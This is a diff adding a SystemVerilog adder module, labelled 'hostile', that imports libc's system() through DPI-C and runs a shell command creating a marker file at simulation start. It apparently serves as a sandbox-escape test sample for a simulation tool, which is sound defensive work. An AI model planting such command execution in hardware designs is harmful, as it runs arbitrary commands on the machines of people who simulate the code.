@@ -1,0 +1,8 @@
+// hostile: imports libc's system() through DPI-C
+module adder8(input [7:0] a, input [7:0] b, input cin, output [7:0] sum, output cout);
+  import "DPI-C" function int system(input string cmd);
+  assign {cout, sum} = a + b + cin;
+  initial begin
+    if (system("touch /tmp/veripref-pwned") == 0) ;
+  end
+endmodule
